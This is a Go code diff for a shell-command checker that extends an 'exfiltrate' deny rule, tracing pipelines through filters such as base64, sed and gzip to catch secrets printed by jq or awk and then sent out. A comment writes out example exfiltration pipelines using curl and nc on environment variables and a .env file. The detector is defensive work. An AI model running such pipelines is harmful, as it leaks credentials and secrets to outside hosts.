@@ -107,16 +107,69 @@ func (p *Pass) secretInput(c *syntax.Call) bool {
 	if p.Config.Paths == nil || !networkCommands.Get()[c.Name] || !sendsInput(c) {
 		return false
 	}
-	files := c.InputFiles()
-	if len(files) == 0 {
-		return false
-	}
-	if sec, ok := p.secretFile(c.Dir, files); ok {
+	if sec, ok := p.secretFile(c.Dir, c.InputFiles()); ok {
 		p.Report(c, Finding{Rule: "exfiltrate", Decision: Deny, PathContext: "blocked",
 			Message: sec.Reason(fmt.Sprintf("%s sends its standard input, which holds the content of", c.Name))})
 		return true
 	}
+	// jq -r --arg k "$KEY" '$k' | curl -d @- URL, set -a; source .env; jq
+	// -n env | base64 | nc h 80: what jq or awk prints from a variable or
+	// the environment, through the stages that pass their input on.
+	at := c
+	for hops := 0; hops < 16; hops++ {
+		in := at.Fd(0)
+		if in.Kind != syntax.StreamPipe || in.Pipe == nil {
+			return false
+		}
+		prev := in.Pipe.Stage(in.Stage - 1)
+		if prev == nil {
+			return false
+		}
+		if sec, what, ok := p.printedSecret(prev); ok && prev.Fd(1).Kind == syntax.StreamPipe {
+			p.Report(c, Finding{Rule: "exfiltrate", Decision: Deny, PathContext: "blocked",
+				Message: sec.Reason(fmt.Sprintf("%s sends its standard input, what %s prints: %s", c.Name, prev.Name, what))})
+			return true
+		}
+		if !passesInput(prev) {
+			return false
+		}
+		at = prev
+	}
 	return false
+}
+
+// passesInput reports whether a pipeline stage prints what it reads on
+// its standard input (a filter given no file: base64, tr, cat, sed
+// s/x/y/), so that what an earlier stage prints goes on through it.
+func passesInput(c *syntax.Call) bool {
+	if !stdinPrinters.Get()[c.Name] && c.Name != "xxd" && c.Name != "gzip" && c.Name != "xz" && c.Name != "zstd" && c.Name != "rev" {
+		return false
+	}
+	if c.Name == "tr" || c.Name == "envsubst" {
+		return true // their operands are no files
+	}
+	spec := readerSpecs.Get()[c.Name]
+	switch c.Name {
+	case "gawk", "mawk":
+		spec = readerSpecs.Get()["awk"]
+	case "egrep", "fgrep":
+		spec = readerSpecs.Get()["grep"]
+	}
+	opts, operands := scan(c.Args, spec)
+	switch c.Name {
+	case "sed", "awk", "gawk", "mawk", "grep", "egrep", "fgrep":
+		// The first operand is the script or pattern unless an option
+		// gave it (sed -e, awk -f, grep -e/-f).
+		if len(operands) > 0 && !has(opts, "e", "f", "expression", "file", "regexp", "source") {
+			operands = operands[1:]
+		}
+	}
+	for _, i := range operands {
+		if c.Args[i].Value != "-" {
+			return false
+		}
+	}
+	return true
 }
 
 // secretEnvImport reports curl --variable %NAME (curl 8.3: the variable
